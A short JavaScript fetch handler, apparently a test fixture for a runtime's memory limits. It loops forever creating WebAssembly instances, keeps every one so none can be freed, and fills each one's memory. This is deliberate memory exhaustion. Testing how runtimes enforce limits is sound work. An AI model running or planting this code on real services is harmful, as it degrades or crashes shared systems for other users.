// WebAssembly grows its memory as far as it goes, and fills and copies all of it in a loop.
import filler from "./filler.wasm";

const kept = [];

export default {
  fetch() {
    for (;;) {
      const instance = new WebAssembly.Instance(filler);
      kept.push(instance);
      instance.exports.fill();
    }
  },
};
